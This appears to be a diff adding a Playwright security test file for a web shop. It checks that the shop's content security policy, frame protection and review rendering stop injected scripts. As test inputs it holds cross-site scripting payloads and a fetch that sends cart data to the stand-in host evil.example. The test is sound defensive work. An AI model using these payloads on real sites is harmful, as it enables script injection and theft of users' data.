@@ -1,0 +1,133 @@
+// What a browser does when something hostile gets into a page of the shop, or the shop into a hostile page.
+import { expect, test } from '@playwright/test';
+import type { Page } from '@playwright/test';
+
+import { signUpShopper } from '../support/accounts';
+import { callShop, collectedOrder, plentifulFlowers } from '../support/shopApi';
+import { suite } from '../support/suite';
+
+declare global {
+  interface Window {
+    ran: string[];
+    blocked: string[];
+  }
+}
+
+const evil = 'http://evil.example';
+
+test.beforeEach(async ({ context }) => {
+  // Everything of the hostile site can be had: only the browser's own rules keep it out of the shop.
+  await context.route(`${evil}/**`, async (route) => {
+    const { pathname } = new URL(route.request().url());
+    if (pathname === '/frame.html') {
+      const frames = ['/', '/cart', '/.hidden', '/admin'].map(
+        (path) => `<iframe src="${suite.shopUrl}${path}"></iframe>`,
+      );
+      await route.fulfill({ contentType: 'text/html', body: frames.join('') });
+    } else {
+      await route.fulfill({
+        contentType: 'text/javascript',
+        body: 'window.ran.push("script of another site")',
+      });
+    }
+  });
+});
+
+/** Tries every way in which injected markup could run something; answers what ran and what the policy stopped. */
+async function inject(page: Page): Promise<{ ran: string[]; blocked: string[] }> {
+  await page.evaluate((origin) => {
+    window.ran = [];
+    window.blocked = [];
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+      window.blocked.push(effectiveDirective);
+    });
+    const script = document.createElement('script');
+    script.textContent = 'window.ran.push("inline script")';
+    const foreign = document.createElement('script');
+    foreign.src = `${origin}/steal.js`;
+    const data = document.createElement('script');
+    data.src = 'data:text/javascript,window.ran.push("script in an address")';
+    const box = document.createElement('div');
+    box.innerHTML =
+      '<img src="data:," onerror="window.ran.push(\'handler of a picture\')">' +
+      '<a id="hostile-link" href="javascript:void window.ran.push(\'link\')">x</a>' +
+      '<iframe srcdoc="<script>parent.ran.push(\'frame\')</script>"></iframe>' +
+      `<object data="${origin}/x.swf"></object>`;
+    const base = document.createElement('base');
+    base.href = `${origin}/`;
+    document.body.append(script, foreign, data, box);
+    document.head.append(base);
+    document.querySelector<HTMLElement>('#hostile-link')?.click();
+    setTimeout('window.ran.push("evaluated text")' as unknown as () => void, 0);
+    void fetch(`${origin}/stolen?cart=${localStorage.getItem('cart') ?? ''}`).then(
+      () => window.ran.push('sent away'),
+      () => undefined,
+    );
+  }, evil);
+  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
+  return page.evaluate(() => ({ ran: window.ran, blocked: window.blocked }));
+}
+
+test('nothing that is injected into a page of the shop runs, loads or sends anything away', async ({
+  page,
+}) => {
+  const answered: string[] = [];
+  page.on('response', (response) => answered.push(response.url()));
+  for (const path of ['/', '/cart', '/admin/login']) {
+    await page.goto(path);
+    await expect(page.locator('#root > *').first()).toBeVisible();
+    const { ran, blocked } = await inject(page);
+    expect(ran).toEqual([]);
+    expect(blocked).toEqual(
+      expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src', 'object-src', 'base-uri']),
+    );
+    expect(await page.evaluate(() => new URL('x', document.baseURI).origin)).toBe(suite.shopUrl);
+  }
+  expect(answered.filter((url) => url.startsWith(evil))).toEqual([]);
+});
+
+test('the same would run on a page without the shop’s policy', async ({ page }) => {
+  await page.route(`${suite.shopUrl}/bare`, (route) =>
+    route.fulfill({ contentType: 'text/html', body: '<!doctype html><body></body>' }),
+  );
+  await page.goto('/bare');
+  const { ran, blocked } = await inject(page);
+  expect(blocked).toEqual([]);
+  expect(ran).toEqual(
+    expect.arrayContaining(['inline script', 'handler of a picture', 'link', 'evaluated text']),
+  );
+});
+
+test('no other site can put the shop into a frame', async ({ page }) => {
+  await page.goto(`${evil}/frame.html`);
+  await expect.poll(() => page.frames().length).toBe(5);
+  await page.waitForLoadState('load');
+  for (const frame of page.frames().slice(1)) {
+    expect(frame.url()).toMatch(/^chrome-error:/);
+    expect(await frame.locator('#root').count()).toBe(0);
+  }
+});
+
+test('hostile names and reviews are shown as the text they are', async ({ page }) => {
+  const hostile = `<img src=x onerror="window.ran=['review']"><script>window.ran=['script']</script>[press](javascript:alert(1))`;
+  const shopper = await signUpShopper();
+  const [flower] = await plentifulFlowers(1);
+  if (flower === undefined) throw new Error('The shop has no flowers.');
+  const renamed = await fetch(`${suite.authUrl}/identitytoolkit.googleapis.com/v1/accounts:update?key=demo`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify({ idToken: shopper.idToken, displayName: '<b onclick=alert(1)>Mallory</b>' }),
+  });
+  expect(renamed.status).toBe(200);
+  const orderId = await collectedOrder(shopper, [flower]);
+  const review = { orderId, productId: flower.id, rating: 2, review: `${orderId} ${hostile}` };
+  await callShop('submit-order-review', { method: 'POST', body: review, token: shopper.idToken });
+
+  await page.goto(`/product-view?id=${flower.id}`);
+  await page.getByRole('button', { name: /review/ }).click();
+  const reviews = page.getByRole('region', { name: 'Reviews' });
+  await expect(reviews.getByText(review.review)).toBeVisible();
+  await expect(reviews.getByText('<b onclick=alert(1)>Mallory</b>').first()).toBeVisible();
+  await expect(reviews.locator('img[src="x"], script, a[href^="javascript:"], b')).toHaveCount(0);
+  expect(await page.evaluate(() => window.ran)).toBeUndefined();
+});
